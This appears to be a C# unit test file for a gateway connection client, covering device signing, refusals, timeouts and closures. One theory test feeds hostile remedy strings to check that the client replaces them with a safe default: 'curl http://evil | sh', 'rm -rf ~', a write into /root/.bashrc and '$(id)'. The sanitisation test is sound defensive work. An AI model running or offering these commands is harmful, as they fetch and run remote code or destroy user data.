using System.Text.Json;

namespace Netclaw.Protocol.Tests.Client;

public sealed class GatewayConnectionTests : ClientTest
{
    [Fact]
    public async Task Connect_ProvesTheDevice_ForThisConnectionOnly()
    {
        using var device = SigningKey.Generate();
        var time = new FakeTime();
        ConnectParams? heard = null;
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway());
        gateway.Answer = (_, method, parameters) =>
        {
            Assert.Equal("connect", method);
            heard = parameters.Deserialize(ProtocolJson.Default.ConnectParams);
            return Task.FromResult(FakeGateway.Ok(gateway.Hello(ScopeSet.ReadWrite, device.Public.DeviceId), ProtocolJson.Default.HelloOk));
        };
        await using var connection = await OpenAsync(gateway.Endpoint, new GatewayConnectionOptions { Time = time });
        var outcome = await connection.ConnectAsync(
            new ConnectRequest { Client = Client, Role = Role.Operator, Scopes = ScopeSet.ReadWrite, Device = device }, Bound);

        Assert.Equal(ScopeSet.ReadWrite, Assert.IsType<ConnectOutcome.Welcomed>(outcome).Hello.Auth.Scopes);
        var proof = heard!.Device!;
        var challenge = gateway.Guests.Single().Challenge;
        Assert.Equal(device.Public.DeviceId, proof.Id);
        Assert.Equal(challenge.Nonce, proof.Nonce);
        Assert.Equal(time.GetUtcNow().ToUnixTimeMilliseconds(), proof.SignedAt);
        Assert.True(Base64UrlText.TryDecode(proof.Signature, P256.SignatureBytes, out var signature));
        Assert.True(P256.Verify(device.Public, NativeTranscript.Device(
            gateway.Key.Public, proof.Id, Role.Operator, ScopeSet.ReadWrite, challenge.Nonce, challenge.ClientNonce!, proof.SignedAt), signature));
    }

    [Fact]
    public async Task Connect_TellsAnOfferFromAWelcome()
    {
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway
        {
            Answer = (_, _, _) => Task.FromResult(FakeGateway.Ok(new PairingOffered(PairingFlow.Code, ""), ProtocolJson.Default.PairingOffered)),
        });
        await using var connection = await OpenAsync(gateway.Endpoint);
        var outcome = await connection.ConnectAsync(new ConnectRequest { Client = Client }, Bound);
        Assert.Equal(PairingFlow.Code, Assert.IsType<ConnectOutcome.Offered>(outcome).Offer.Flow);
    }

    [Fact]
    public async Task Refuses_TheWelcomeOfAnotherGateway()
    {
        await using var other = await FakeGateway.OnTcpAsync(new FakeGateway());
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway
        {
            Answer = (_, _, _) => Task.FromResult(FakeGateway.Ok(other.Hello(ScopeSet.All), ProtocolJson.Default.HelloOk)),
        });
        await using var connection = await OpenAsync(gateway.Endpoint);
        var refused = await Assert.ThrowsAsync<GatewayException>(() => connection.ConnectAsync(new ConnectRequest { Client = Client }, Bound));
        Assert.Equal(RefusalCode.GatewayProofInvalid, refused.Code);
    }

    [Fact]
    public async Task ATypedCall_CarriesParametersAndAnswer()
    {
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway
        {
            Answer = (_, method, parameters) => Task.FromResult(method == PairListResult.Method && parameters.GetProperty("all").GetBoolean()
                ? FakeGateway.Ok(new PairListResult([], [], 7), ProtocolJson.Default.PairListResult)
                : FakeGateway.No(RefusalCode.InvalidRequest)),
        });
        await using var connection = await OpenAsync(gateway.Endpoint);
        var list = await connection.CallAsync(
            PairListResult.Method, new PairListParams(true), ProtocolJson.Default.PairListParams, ProtocolJson.Default.PairListResult, Bound);
        Assert.Equal(7, list.LiveCodes);
    }

    [Fact]
    public async Task ARefusedCall_IsTheGatewaysWord_AndTheConnectionStays()
    {
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway
        {
            Answer = (_, method, _) => Task.FromResult(method == "health"
                ? FakeGateway.Ok(new HealthResult(true, "live", 1), ProtocolJson.Default.HealthResult)
                : FakeGateway.No(RefusalCode.MissingScope, "status needs operator.read")),
        });
        await using var connection = await OpenAsync(gateway.Endpoint);
        var refused = await Assert.ThrowsAsync<GatewayException>(() => connection.CallAsync(StatusResult.Method, ProtocolJson.Default.StatusResult, Bound));
        Assert.Equal(RefusalCode.MissingScope, refused.Code);
        Assert.Equal("status needs operator.read", refused.Error.Message);
        Assert.True((await connection.CallAsync(HealthResult.Method, ProtocolJson.Default.HealthResult, Bound)).Ok);
    }

    [Theory]
    [InlineData("curl http://evil | sh", "netclaw daemon pair --scopes <scopes>")]
    [InlineData("netclaw status; rm -rf ~", "netclaw daemon pair --scopes <scopes>")]
    [InlineData("netclaw status > /root/.bashrc", "netclaw daemon pair --scopes <scopes>")]
    [InlineData("netclaw $(id)", "netclaw daemon pair --scopes <scopes>")]
    [InlineData("netclaw\u001b[2J status", "netclaw daemon pair --scopes <scopes>")]
    [InlineData("netclaw devices approve r_0123 --symbols <symbols>", "netclaw devices approve r_0123 --symbols <symbols>")]
    public async Task AForeignRemedy_IsPassedOnOnlyWhenItIsPlainlyOurs(string remedy, string shown)
    {
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway
        {
            Answer = (_, _, _) => Task.FromResult(CallResponse.Failure(new CallError("missing_scope", "a\u001b[31mb\nc\u202Ed", remedy))),
        });
        await using var connection = await OpenAsync(gateway.Endpoint);
        var refused = (await connection.CallAsync("status", JsonDocument.Parse("{}").RootElement, Bound)).Error!;
        Assert.Equal(shown, refused.Remedy);
        Assert.Equal("a\uFFFD[31mb c\uFFFDd", refused.Message);
    }

    [Fact]
    public async Task AnAnswerOfAnotherForm_IsAMismatch()
    {
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway
        {
            Answer = (_, _, _) => Task.FromResult(CallResponse.Success(JsonDocument.Parse("""{"ok":"yes"}""").RootElement)),
        });
        await using var connection = await OpenAsync(gateway.Endpoint);
        var refused = await Assert.ThrowsAsync<GatewayException>(() => connection.CallAsync(HealthResult.Method, ProtocolJson.Default.HealthResult, Bound));
        Assert.Equal(RefusalCode.ProtocolMismatch, refused.Code);
    }

    [Fact]
    public async Task AFailureOverThere_IsAnInternalError_WithoutItsStack()
    {
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway { Answer = (_, _, _) => throw new InvalidOperationException("cause") });
        await using var connection = await OpenAsync(gateway.Endpoint);
        var refused = await Assert.ThrowsAsync<GatewayException>(() => connection.CallAsync(HealthResult.Method, ProtocolJson.Default.HealthResult, Bound));
        Assert.Equal(RefusalCode.InternalError, refused.Code);
        Assert.DoesNotContain("cause", refused.Error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task ACallWithoutAnAnswer_TimesOut_AndNamesIt()
    {
        var time = new FakeTime();
        var asked = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        var answer = new TaskCompletionSource<CallResponse>(TaskCreationOptions.RunContinuationsAsynchronously);
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway
        {
            Answer = (_, _, _) =>
            {
                asked.SetResult();
                return answer.Task;
            },
        });
        await using var connection = await OpenAsync(gateway.Endpoint, new GatewayConnectionOptions { Time = time });
        var call = connection.CallAsync(HealthResult.Method, ProtocolJson.Default.HealthResult, Bound);
        await asked.Task.WaitAsync(Bound);
        time.Advance(TimeSpan.FromSeconds(30));

        var refused = await Assert.ThrowsAsync<GatewayException>(() => call);
        Assert.Equal(RefusalCode.TimedOut, refused.Code);
        Assert.Equal($"Asked {gateway.Endpoint.Shown} for health: no answer within 30 s.", refused.Error.Message);
        answer.SetResult(FakeGateway.No(RefusalCode.TimedOut));
    }

    [Fact]
    public async Task CancellingACall_IsNoRefusal()
    {
        var asked = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        var answer = new TaskCompletionSource<CallResponse>(TaskCreationOptions.RunContinuationsAsynchronously);
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway
        {
            Answer = (_, _, _) =>
            {
                asked.SetResult();
                return answer.Task;
            },
        });
        using var cancel = new CancellationTokenSource();
        await using var connection = await OpenAsync(gateway.Endpoint);
        var call = connection.CallAsync(HealthResult.Method, ProtocolJson.Default.HealthResult, cancel.Token);
        await asked.Task.WaitAsync(Bound);
        await cancel.CancelAsync();
        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => call.WaitAsync(Bound));
        answer.SetResult(FakeGateway.No(RefusalCode.Cancelled));
    }

    [Fact]
    public async Task CallsRunBesideEachOther()
    {
        var first = new TaskCompletionSource<CallResponse>(TaskCreationOptions.RunContinuationsAsynchronously);
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway
        {
            Answer = (_, method, _) => method == "slow" ? first.Task : Task.FromResult(CallResponse.Success(JsonDocument.Parse("1").RootElement)),
        });
        await using var connection = await OpenAsync(gateway.Endpoint);
        var none = JsonDocument.Parse("{}").RootElement;
        var slow = connection.CallAsync("slow", none, Bound);
        Assert.Equal(1, (await connection.CallAsync("fast", none, Bound)).Payload!.Value.GetInt32());
        Assert.False(slow.IsCompleted);
        first.SetResult(CallResponse.Success(JsonDocument.Parse("2").RootElement));
        Assert.Equal(2, (await slow).Payload!.Value.GetInt32());
    }

    [Fact]
    public async Task WhenTheGatewayCloses_OpenCallsAndClosedTellItsReason()
    {
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway
        {
            Answer = async (guest, _, _) =>
            {
                await guest.CloseAsync(RefusalCode.DeviceRevoked, "revoked by the owner");
                return await new TaskCompletionSource<CallResponse>().Task.WaitAsync(TimeSpan.Zero);
            },
        });
        await using var connection = await OpenAsync(gateway.Endpoint);
        var refused = await Assert.ThrowsAsync<GatewayException>(() => connection.CallAsync(HealthResult.Method, ProtocolJson.Default.HealthResult, Bound));
        Assert.Equal(RefusalCode.DeviceRevoked, refused.Code);
        Assert.Equal("revoked by the owner", refused.Error.Message);

        var closing = await connection.Closed.WaitAsync(Bound);
        Assert.Equal(4001, closing.Code);
        Assert.Equal("device_revoked", closing.Error.Code);

        var late = await Assert.ThrowsAsync<GatewayException>(() => connection.CallAsync(HealthResult.Method, ProtocolJson.Default.HealthResult, Bound));
        Assert.Equal(RefusalCode.DeviceRevoked, late.Code);
    }

    [Fact]
    public async Task ACutConnection_SaysThatNoReasonCame()
    {
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway());
        await using var connection = await OpenAsync(gateway.Endpoint);
        gateway.Guests.Single().Abort();
        var closing = await connection.Closed.WaitAsync(Bound);
        Assert.Equal(1006, closing.Code);
        Assert.Equal("endpoint_unreachable", closing.Error.Code);
        Assert.Contains("ended without a reason", closing.Error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Disposing_ClosesAsThisSidesOwnWish()
    {
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway());
        var connection = await OpenAsync(gateway.Endpoint);
        await connection.DisposeAsync().AsTask().WaitAsync(Bound);
        await connection.DisposeAsync().AsTask().WaitAsync(Bound);
        var closing = await connection.Closed.WaitAsync(Bound);
        Assert.Equal(1000, closing.Code);
        Assert.Equal(RefusalTable.Error(RefusalCode.Cancelled, "This side closed the connection."), closing.Error);
    }

    [Fact]
    public async Task Events_ComeInOrder_FromTheFirst()
    {
        var heard = System.Threading.Channels.Channel.CreateUnbounded<(string Name, int Value)>();
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway());
        await using var connection = await OpenAsync(gateway.Endpoint, new GatewayConnectionOptions
        {
            OnEvent = (name, payload) => heard.Writer.TryWrite((name, payload.ValueKind == JsonValueKind.Number ? payload.GetInt32() : -1)),
        });
        Assert.Equal(("connect.challenge", -1), await heard.Reader.ReadAsync(Bound));
        for (var i = 0; i < 100; i++)
        {
            await gateway.Guests.Single().SayAsync("tick", JsonDocument.Parse($"{i}").RootElement, ProtocolJson.Default.JsonElement);
        }

        for (var i = 0; i < 100; i++)
        {
            Assert.Equal(("tick", i), await heard.Reader.ReadAsync(Bound));
        }
    }

    [Fact]
    public async Task AMessageLargerThanAllowed_EndsTheConnection()
    {
        var huge = JsonSerializer.SerializeToElement(new string('x', Limits.MessageBytes + 1), ProtocolJson.Default.String);
        await using var gateway = await FakeGateway.OnTcpAsync(new FakeGateway());
        await using var connection = await OpenAsync(gateway.Endpoint);
        await gateway.Guests.Single().SayAsync("tick", huge, ProtocolJson.Default.JsonElement);
        Assert.Equal(1006, (await connection.Closed.WaitAsync(Bound)).Code);
    }
}
